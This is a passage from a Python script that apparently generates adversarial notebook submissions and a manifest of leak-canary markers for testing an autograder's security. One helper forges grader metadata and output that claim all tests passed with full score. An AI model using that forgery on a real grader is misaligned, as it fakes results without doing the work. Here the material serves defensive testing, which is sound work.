            cell.metadata["otter"] = {"tests": ["q1"], "score": 100, "passed": True}
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="q1 results: All test cases passed!\n")]
            cell.execution_count = 1


def build(points: float) -> None:
    OUT.mkdir(exist_ok=True)
    for old in OUT.iterdir():
        if old.name.endswith(".ipynb") and (old.is_symlink() or old.is_file()):
            old.unlink()
    bases = {"blank": nbformat.read(BLANK, as_version=4), "solution": nbformat.read(SOLUTION, as_version=4)}
    lines = ["# Adversarial submissions: built by tests/submissions/make_adversarial.py, do not edit by hand.",
             f'victim_marker = "{VICTIM_MARKER}"', f'env_canary = "{ENV_CANARY}"', f"net_port = {NET_PORT}",
             f'planted_marker = "{PLANTED_MARKER}"', f'private_marker = "{PRIVATE_MARKER}"', f'zip_marker = "{ZIP_MARKER}"',
             f'abstract_socket = "{ABSTRACT_SOCKET}"', ""]
    for name, (sentence, base, cells, leak, extra) in ATTACKS.items():
        nb = nbformat.from_dict(json.loads(json.dumps(bases[base])))
        for source in cells:
            cell = nbformat.v4.new_code_cell(source)
            cell.pop("id", None)
            nb.cells.append(cell)
        if extra.pop("notebook_metadata", False):
            _fake_metadata(nb)
        for cell in nb.cells:
            cell.pop("id", None)
        nb.nbformat_minor = 4
        (OUT / f"{name}.ipynb").write_text(json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")
        lines += _entry(name, sentence, base, 0 if base == "blank" else points, leak, extra)
    for name, (sentence, target) in _symlinks().items():
        os.symlink(target, OUT / f"{name}.ipynb")
        lines += _entry(name, sentence, "blank", 0, [], {"status": "invalid"})
    (OUT / "manifest.toml").write_text("\n".join(lines))


def _entry(name, sentence, base, max_score, leak, extra) -> list[str]:
    out = [f"[attacks.{name}]", f"attack = {json.dumps(sentence)}", f'base = "{base}"', f"max_score = {float(max_score)}",
           f"must_not_leak = {json.dumps(leak)}"]
    out += [f"{key} = {json.dumps(value)}" for key, value in extra.items()]
    return out + [""]


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    from autograder.assignment import load_assignment

    build(load_assignment(ROOT / "assignments" / "conv-math").autograded_points)
    print(f"wrote {len(ATTACKS) + len(_symlinks())} attacks to {OUT}")
